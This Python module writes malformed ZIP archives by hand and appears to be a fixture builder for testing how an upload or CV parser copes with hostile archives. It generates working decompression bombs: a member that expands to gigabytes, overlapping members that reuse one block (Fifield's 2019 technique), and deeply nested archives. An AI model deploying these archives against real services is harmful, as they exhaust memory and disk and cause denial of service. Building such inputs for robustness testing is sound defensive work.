"""ZIP archives written byte by byte, since no honest library writes these."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Iterable, Iterator, Mapping
from dataclasses import dataclass

_STEP = 1 << 20


@dataclass(frozen=True, slots=True)
class Member:
    """``size`` is what the header claims; ``at`` makes it share the data of the member of that number."""

    name: bytes
    packed: bytes
    size: int
    check: int = 0
    flags: int = 0
    mode: int = 0
    at: int | None = None


def of_noughts(size: int, name: str, start: bytes = b"") -> Member:
    """A member that unpacks to gigabytes: one flushed block, said again and again."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = deflate.compress(start) + deflate.flush(zlib.Z_FULL_FLUSH)
    block = deflate.compress(b" " * _STEP) + deflate.flush(zlib.Z_FULL_FLUSH)
    return Member(name.encode(), first + block * (size // _STEP) + b"\x03\x00", size + len(start))


def stored(name: str | bytes, data: bytes, **more: int) -> Member:
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = deflate.compress(data) + deflate.flush()
    encoded = name if isinstance(name, bytes) else name.encode()
    return Member(encoded, packed, len(data), zlib.crc32(data), **more)


def archive(members: Iterable[Member], comment: bytes = b"") -> bytes:
    out, entries, places = bytearray(), [], list[int]()
    for member in members:
        places.append(places[member.at] if member.at is not None else len(out))
        entries.append(_entry(member, places[-1]))
        if member.at is None:
            out += b"PK\x03\x04" + _facts(member) + member.name + member.packed
    listing = b"".join(entries)
    end = struct.pack("<HHHHIIH", 0, 0, len(entries), len(entries), len(listing), len(out), len(comment))
    return bytes(out) + listing + b"PK\x05\x06" + end + comment


def package(parts: Mapping[str, bytes], *more: Member) -> bytes:
    return archive([*(stored(name, data) for name, data in parts.items()), *more])


def _facts(member: Member) -> bytes:
    sizes = (member.check, len(member.packed), min(member.size, 0xFFFFFFFF), len(member.name), 0)
    return struct.pack("<HHHHHIIIHH", 20, member.flags, 8, 0, 0x21, *sizes)


def _entry(member: Member, at: int) -> bytes:
    made_on_unix = 3 << 8 | 20
    tail = struct.pack("<HHHII", 0, 0, 0, member.mode << 16, at)
    return b"PK\x01\x02" + struct.pack("<H", made_on_unix) + _facts(member) + tail + member.name


def in_one_another(data: bytes, depth: int, name: str = "cv") -> bytes:
    for _ in range(depth):
        data = archive([stored(f"{name}.zip", data)])
    return data


def overlapping(count: int) -> Iterator[Member]:
    """Every member is the same data ("a better zip bomb", D. Fifield, 2019): 28 MB, ``count`` times."""
    kernel = of_noughts(28 << 20, "cv.txt", b"Coach")
    yield kernel
    for _ in range(count - 1):
        yield Member(kernel.name, kernel.packed, kernel.size, at=0)
